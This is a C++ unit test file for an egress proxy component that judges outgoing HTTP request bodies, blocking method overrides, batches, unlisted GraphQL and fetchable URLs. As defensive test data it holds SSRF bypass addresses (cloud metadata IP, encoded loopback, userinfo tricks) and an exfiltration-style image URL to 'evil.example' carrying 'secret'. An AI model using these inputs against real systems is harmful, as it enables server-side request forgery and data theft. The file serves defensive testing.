#include "egress/request_body_judge.h"

#include <fmt/format.h>
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "net/path.h"

namespace stockade::egress {
namespace {

using policy::InspectionLevel;
using ::testing::HasSubstr;

constexpr std::string_view kJson = "application/json";
constexpr std::string_view kForm = "application/x-www-form-urlencoded";

policy::NetworkRule rule_for(std::string host, std::vector<std::string> methods = {},
                             std::optional<policy::GraphqlLimit> graphql = {}) {
  policy::NetworkRule rule;
  rule.host = std::move(host);
  rule.ports = {{80, 80}, {443, 443}};
  rule.protocol = policy::Protocol::http;
  rule.methods = std::move(methods);
  rule.graphql = std::move(graphql);
  return rule;
}

class Judgement : public ::testing::Test {
 protected:
  Judgement() {
    network_.allow = {rule_for("free.example"), rule_for("limited.example", {"GET", "POST"}),
                      rule_for("graph.example", {}, policy::GraphqlLimit{{"query"}, {"viewer"}}),
                      rule_for("files.example")};
  }

  Destination to(std::string_view host) const {
    for (size_t i = 0; i < network_.allow.size(); ++i)
      if (network_.allow[i].host == host) return {static_cast<int32_t>(i), std::string(host), {}, 80};
    ADD_FAILURE() << host;
    return {};
  }

  static net::RequestHead head_of(std::string_view host, std::string_view type, std::string_view target = "/x",
                                  std::string_view method = "POST", std::string_view more = "") {
    const auto head =
        net::parse_request_head(fmt::format("{} {} HTTP/1.1\r\nHost: {}\r\n{}{}{}\r\n", method, target, host, more,
                                            type.empty() ? "" : fmt::format("Content-Type: {}\r\n", type),
                                            method == "GET" ? "" : "Transfer-Encoding: chunked\r\n"),
                                net::RequestPlace::origin);
    EXPECT_TRUE(head) << head.error().message();
    return *head;
  }

  struct Outcome {
    std::string bytes;
    std::string stopped;  // why
    std::string logged;
    size_t most_held = 0;
  };
  void note(std::vector<ContentFinding> findings, Outcome& outcome) {
    for (const ContentFinding& finding : findings) (finding.stops ? outcome.stopped : outcome.logged) += finding.reason;
  }

  Outcome send(const net::RequestHead& head, std::string_view body, size_t piece = 4096) {
    Outcome outcome;
    auto judge = request_body_judge(network_, to(head.host), head);
    if (!judge) return {std::string(body), {}, {}, 0};
    do {
      const auto bytes = body.substr(0, piece);
      body.remove_prefix(bytes.size());
      auto passed = judge->feed(bytes, body.empty());
      EXPECT_TRUE(passed);
      note(std::move(passed->findings), outcome);
      outcome.bytes += passed->bytes;
      outcome.most_held = std::max(outcome.most_held, judge->held());
    } while (!body.empty() && outcome.stopped.empty());
    return outcome;
  }
  Outcome post(std::string_view host, std::string_view type, std::string_view body, std::string_view target = "/x") {
    return send(head_of(host, type, target), body);
  }
  Outcome ask(std::string_view host, std::string_view target, std::string_view more = "") {
    Outcome outcome;
    note(judge_request_query(network_, to(host), head_of(host, "", target, "GET", more)), outcome);
    return outcome;
  }

  policy::Network network_;
};

// ---- requests that hide in others ----

TEST_F(Judgement, RefusesAMethodOverrideWhereMethodsAreLimited) {
  EXPECT_THAT(ask("limited.example", "/x", "X-HTTP-Method-Override: DELETE\r\n").stopped,
              HasSubstr("X-HTTP-Method-Override"));
  EXPECT_THAT(ask("limited.example", "/x?_method=DELETE").stopped, HasSubstr("_method"));
  EXPECT_THAT(post("limited.example", kForm, "a=1&_method=delete").stopped, HasSubstr("form field _method"));
  EXPECT_THAT(post("limited.example", kJson, R"({"_method":"DELETE"})").stopped, HasSubstr("_method"));
  EXPECT_THAT(post("limited.example", "multipart/form-data; boundary=b",
                   "--b\r\nContent-Disposition: form-data; name=\"_method\"\r\n\r\nPUT\r\n--b--\r\n")
                  .stopped,
              HasSubstr("_method"));
  EXPECT_EQ(ask("free.example", "/x?_method=DELETE", "X-HTTP-Method-Override: DELETE\r\n").stopped, "");
  EXPECT_EQ(post("free.example", kForm, "a=1&_method=delete").bytes, "a=1&_method=delete");
}

TEST_F(Judgement, RefusesBatchesWhereMethodsAreLimited) {
  const std::string batch = R"({"requests":[{"id":"1","method":"DELETE","url":"/me"}]})";
  EXPECT_THAT(post("limited.example", kJson, batch).stopped, HasSubstr("batch of 1"));
  EXPECT_THAT(post("limited.example", "", batch).stopped, HasSubstr("batch"));
  EXPECT_THAT(post("limited.example", "multipart/mixed; boundary=b",
                   "--b\r\nContent-Type: application/http\r\n\r\nDELETE /x HTTP/1.1\r\n\r\n\r\n--b--\r\n")
                  .stopped,
              HasSubstr("batch"));
  EXPECT_EQ(post("free.example", kJson, batch).bytes, batch);
  const std::string rpc = R"([{"jsonrpc":"2.0","id":1,"method":"a"}])";
  EXPECT_EQ(post("limited.example", kJson, rpc).bytes, rpc);
}

TEST_F(Judgement, RefusesWhatItCanNotReadWhereMethodsAreLimited) {
  EXPECT_THAT(post("limited.example", kForm, "a=%zz").stopped, HasSubstr("can't be read"));
  EXPECT_THAT(post("limited.example", kJson, R"({"a":1,"a":2})").stopped, HasSubstr("can't be read"));
  EXPECT_THAT(post("limited.example", "multipart/form-data; boundary=b", "--b\r\n").stopped,
              HasSubstr("can't be read"));
  EXPECT_EQ(post("limited.example", "image/png", "\x89PNG").bytes, "\x89PNG");
}

TEST_F(Judgement, RefusesALongFormOnlyWhereMethodsAreLimited) {
  const std::string form = "a=" + std::string(kJudgedBytes, 'x');
  const auto limited = send(head_of("limited.example", kForm), form, 65536);
  EXPECT_THAT(limited.stopped, HasSubstr("longer than 4 MiB"));
  const auto free = send(head_of("free.example", kForm), form, 65536);
  EXPECT_EQ(free.bytes, form);
  EXPECT_THAT(free.logged, HasSubstr("longer than 4 MiB"));
}

// ---- GraphQL ----

TEST_F(Judgement, LetsTheGraphqlPassThatARuleNames) {
  const std::string query = R"({"query":"{ viewer { login } __typename }"})";
  EXPECT_EQ(post("graph.example", kJson, query).bytes, query);
  EXPECT_EQ(post("graph.example", "application/graphql", "query A { viewer { id } }").bytes,
            "query A { viewer { id } }");
  EXPECT_EQ(ask("graph.example", "/graphql?query=%7Bviewer%7Bid%7D%7D").stopped, "");
}

TEST_F(Judgement, RefusesOtherGraphql) {
  for (const char* body :
       {R"({"query":"mutation { deleteRepo { id } }"})", R"({"query":"{ viewer { id } users { id } }"})",
        R"({"query":"{ viewer: users { id } }"})", R"({"query":"{ ...f } fragment f on Query { users { id } }"})",
        R"([{"query":"{ viewer { id } }"},{"query":"{ users { id } }"}])", R"({"query":"{ __schema { types } }"})"})
    EXPECT_THAT(post("graph.example", kJson, body).stopped, HasSubstr("does not allow the GraphQL operation")) << body;
  EXPECT_THAT(ask("graph.example", "/graphql?query=%7Busers%7Bid%7D%7D").stopped, HasSubstr("users"));
}

TEST_F(Judgement, RefusesGraphqlWhoseTextItDoesNotSee) {
  EXPECT_THAT(
      post("graph.example", kJson, R"({"extensions":{"persistedQuery":{"version":1,"sha256Hash":"ab"}}})").stopped,
      HasSubstr("persisted"));
  EXPECT_THAT(post("graph.example", kJson, R"({"id":"17"})").stopped, HasSubstr("persisted"));
  for (const char* body : {"{", "{}", "[]", R"({"query":"{ viewer"})"})
    EXPECT_THAT(post("graph.example", kJson, body).stopped, HasSubstr("GraphQL")) << body;
  EXPECT_THAT(post("graph.example", "text/plain", R"({"query":"{ viewer { id } }"})").stopped, HasSubstr("GraphQL"));
  EXPECT_THAT(ask("graph.example", "/").stopped, HasSubstr("no document"));
  const auto longer = send(head_of("graph.example", kJson),
                           R"({"query":"{ viewer { id } }","x":")" + std::string(1024 * 1024, 'x') + "\"}", 65536);
  EXPECT_THAT(longer.stopped, HasSubstr("longer than 1 MiB"));
  EXPECT_EQ(longer.bytes, "");
}

TEST_F(Judgement, LetsAnyGraphqlPassWhereAnotherRuleDoes) {
  network_.allow.push_back(rule_for("graph.example", {"POST"}));
  EXPECT_EQ(post("graph.example", kJson, R"({"query":"{ users { id } }"})").stopped, "");
  EXPECT_THAT(ask("graph.example", "/graphql?query=%7Busers%7Bid%7D%7D").stopped, HasSubstr("users"));
}

// ---- URLs that the receiver fetches ----

TEST_F(Judgement, RefusesForbiddenAddressesThatAReceiverMayFetch) {
  for (const char* url : {"http://169.254.169.254/latest/", "http://[::ffff:10.0.0.1]/", "http://2130706433/",
                          "http://0x7f.1/", "http://metadata.google.internal/", "http://localhost:8080/x",
                          "http://files.example@127.0.0.1/", "http://files.example\\@10.1.2.3/"}) {
    const std::string escaped =
        std::string(url).find('\\') == std::string::npos ? url : "http://files.example\\\\@10.1.2.3/";
    EXPECT_THAT(post("free.example", kJson, fmt::format(R"({{"webhook":"{}"}})", escaped)).stopped,
                HasSubstr("would fetch"))
        << url;
    EXPECT_THAT(post("free.example", kForm, fmt::format("callback_url={}", url)).stopped, HasSubstr("would fetch"))
        << url;
  }
  EXPECT_THAT(ask("free.example", "/proxy?url=http%3A%2F%2F10.0.0.1%2F").stopped, HasSubstr("10.0.0.1"));
  EXPECT_THAT(ask("free.example", "/proxy?x=%zz&url=http://10.0.0.1/").stopped, HasSubstr("10.0.0.1"));
  EXPECT_THAT(post("free.example", "text/plain", R"({"webhook":"http://10.0.0.1/"})").stopped, HasSubstr("10.0.0.1"));
  EXPECT_THAT(post("free.example", kJson, R"({"host":"169.254.169.254"})").stopped, HasSubstr("metadata"));
}

TEST_F(Judgement, LetsAForbiddenAddressPassThatARuleNames) {
  policy::NetworkRule internal = rule_for("");
  internal.address = *Cidr::parse("10.0.0.0/8");
  network_.allow.push_back(internal);
  const std::string body = R"({"webhook":"http://10.0.0.1/"})";
  EXPECT_EQ(post("free.example", kJson, body).bytes, body);
  EXPECT_THAT(post("free.example", kJson, R"({"webhook":"http://10.0.0.1:22/"})").stopped, HasSubstr("10.0.0.1"));
}

TEST_F(Judgement, RefusesWhatAnApiCertainlyFetchesAndNoRuleAllows) {
  const auto chat = [](std::string_view url) {
    return fmt::format(
        R"({{"model":"m","messages":[{{"role":"user","content":[{{"type":"image_url","image_url":{{"url":"{}"}}}}]}}]}})",
        url);
  };
  EXPECT_THAT(post("free.example", kJson, chat("https://evil.example/x?d=secret"), "/v1/chat/completions").stopped,
              HasSubstr("evil.example:443"));
  EXPECT_EQ(post("free.example", kJson, chat("https://files.example/x.png"), "/v1/chat/completions").stopped, "");
  EXPECT_THAT(post("free.example", kJson, chat("https://files.example:8443/x.png")).stopped, HasSubstr("8443"));
  EXPECT_EQ(post("free.example", kJson, chat("data:image/png;base64,AAAA")).stopped, "");
  EXPECT_THAT(
      post("free.example", kJson, R"({"tools":[{"type":"mcp","server_url":"https://evil.example/mcp"}]})").stopped,
      HasSubstr("evil.example"));
  EXPECT_THAT(post("free.example", kJson, chat("https://files.example%2f@evil.example/")).stopped,
              HasSubstr("would fetch"));
}

TEST_F(Judgement, LogsWhatAReceiverMayFetchAndNoRuleAllows) {
  const std::string body = R"({"homepage":"https://other.example/","avatar":"https://files.example/a.png"})";
  const auto sent = post("free.example", kJson, body);
  EXPECT_EQ(sent.bytes, body);
  EXPECT_THAT(sent.logged, HasSubstr("other.example:443"));
  EXPECT_EQ(sent.logged.find("files.example"), std::string::npos);
  EXPECT_THAT(post("free.example", kJson, R"({"host":"10.0.0.5","server":"localhost"})").logged, HasSubstr("10.0.0.5"));
}

TEST_F(Judgement, LetsAConversationSpeakOfPlacesThatNobodyFetches) {
  const std::string anthropic =
      R"({"model":"m","max_tokens":9,"messages":[{"role":"assistant","content":[{"type":"tool_use","id":"1","name":"open",)"
      R"("input":{"url":"http://localhost:3000/","image_url":"http://127.0.0.1/x.png"}}]},{"role":"user","content":[)"
      R"x({"type":"tool_result","tool_use_id":"1","content":"{\"image_url\":\"http://10.0.0.1/\"} ![x](http://192.168.0.1/)"}]}]})x";
  EXPECT_EQ(post("free.example", kJson, anthropic, "/v1/messages").bytes, anthropic);
  // The API's own field is fetched all the same.
  EXPECT_THAT(post("free.example", kJson,
                   R"({"model":"m","max_tokens":9,"messages":[{"role":"user","content":[{"type":"image","source":)"
                   R"({"type":"url","url":"http://localhost:3000/x.png"}}]}]})",
                   "/v1/messages")
                  .stopped,
              HasSubstr("localhost"));
}

TEST_F(Judgement, LetsABrowserBeSentBackToALoopbackAddress) {
  EXPECT_EQ(ask("free.example", "/authorize?client_id=a&redirect_uri=http%3A%2F%2Flocalhost%3A1455%2Fcallback").stopped,
            "");
  EXPECT_EQ(post("free.example", kForm, "redirect_uri=http://127.0.0.1:9/cb").stopped, "");
  EXPECT_EQ(post("free.example", kJson, R"({"redirect_uris":["http://127.0.0.1:9/cb"]})").stopped, "");
  EXPECT_THAT(post("free.example", kForm, "redirect_uri=http://10.0.0.1:9/cb").stopped, HasSubstr("10.0.0.1"));
}

TEST_F(Judgement, RefusesJsonThatReadersSeeDifferently) {
  EXPECT_THAT(post("free.example", kJson, R"({"image_url":"a","image_url":"b"})").stopped, HasSubstr("can't be read"));
  // curl calls any text a form.
  EXPECT_EQ(post("free.example", kForm, "100% {\"a\"").bytes, "100% {\"a\"");
  EXPECT_EQ(post("free.example", "text/plain", "{ not json").bytes, "{ not json");
  EXPECT_EQ(post("free.example", kJson, R"({"text":"cut \ud83d"})").stopped, "");
}

TEST_F(Judgement, RefusesAConversationThatHoldsMoreThanCanBeJudgedAndLogsOtherRequests) {
  std::string padding = "1";
  for (int i = 0; i < 70'000; ++i) padding += ",1";
  const auto body = [&](std::string_view key) {
    return fmt::format(R"({{"model":"m","{}":[],"x":[{}]}})", key, padding);
  };
  EXPECT_THAT(post("free.example", kJson, body("messages"), "/v1/chat/completions").stopped,
              HasSubstr("too many values"));
  const auto other = post("free.example", kJson, body("input"), "/v1/embeddings");
  EXPECT_THAT(other.logged, HasSubstr("too many values"));
  EXPECT_TRUE(other.bytes == body("input"));
}

TEST_F(Judgement, ObeysItsLevel) {
  const std::string body = R"({"webhook":"http://169.254.169.254/"})";
  network_.inspect.fetched_urls = InspectionLevel::log;
  const auto logged = post("free.example", kJson, body);
  EXPECT_EQ(logged.bytes, body);
  EXPECT_THAT(logged.logged, HasSubstr("169.254.169.254"));
  network_.inspect.fetched_urls = InspectionLevel::off;
  EXPECT_EQ(request_body_judge(network_, to("free.example"), head_of("free.example", kJson)), nullptr);
  EXPECT_EQ(ask("free.example", "/?url=http://10.0.0.1/").logged, "");
}

// ---- bodies ----

TEST_F(Judgement, LetsNothingOfAShortBodyLeaveBeforeItsEnd) {
  auto judge = request_body_judge(network_, to("free.example"), head_of("free.example", kJson));
  const std::string start = "{\"a\":\"" + std::string(kHeldWhole - 100, 'x');
  auto passed = judge->feed(start, false);
  EXPECT_EQ(passed->bytes, "");
  passed = judge->feed("\"}", true);
  EXPECT_EQ(passed->bytes, start + "\"}");
}

TEST_F(Judgement, JudgesABodyOfAnyLengthAndKeepsItsEndBack) {
  const std::string images = std::string(12 * 1024 * 1024, 'A');
  const std::string spaces = std::string(6 * 1024 * 1024, ' ');
  const auto body = [&](std::string_view url) {
    return fmt::format(
        R"({{"model":"m","input":[{{"image":"{}"}}],{}"x":[{{"type":"input_image","image_url":"{}"}}]}})", images,
        spaces, url);
  };
  const auto refused = send(head_of("free.example", kJson, "/v1/responses"), body("http://evil.example/"), 65536);
  EXPECT_THAT(refused.stopped, HasSubstr("evil.example"));
  EXPECT_LT(refused.bytes.size(), body("http://evil.example/").size());
  EXPECT_LT(refused.most_held, 3 * kHeldWhole);
  const auto sent = send(head_of("free.example", kJson, "/v1/responses"), body("http://files.example/"), 65536);
  EXPECT_EQ(sent.stopped, "");
  EXPECT_EQ(sent.bytes, body("http://files.example/"));
}

TEST_F(Judgement, IsTheSameHoweverTheBodyIsCut) {
  const std::string bad = R"(  {"requests":[{"method":"DELETE","url":"/me"}]})";
  const std::string good = "  \r\n {\"a\": \"ü\\ud83d\\\"\"}  ";
  for (const size_t piece : {1, 2, 3, 1000}) {
    EXPECT_THAT(send(head_of("limited.example", ""), bad, piece).stopped, HasSubstr("batch")) << piece;
    EXPECT_EQ(send(head_of("limited.example", ""), good, piece).bytes, good) << piece;
  }
}

}  // namespace
}  // namespace stockade::egress
